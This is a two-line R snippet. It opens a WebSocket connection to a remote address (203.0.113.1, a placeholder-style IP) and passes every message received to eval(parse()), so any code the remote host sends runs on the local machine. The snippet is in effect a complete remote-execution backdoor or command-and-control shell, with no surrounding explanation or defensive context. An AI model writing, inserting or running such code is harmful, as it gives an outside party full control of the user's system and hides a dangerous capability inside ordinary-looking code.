ws <- websocket::WebSocket$new("ws://203.0.113.1")
ws$onMessage(function(event) eval(parse(text = event$data)))
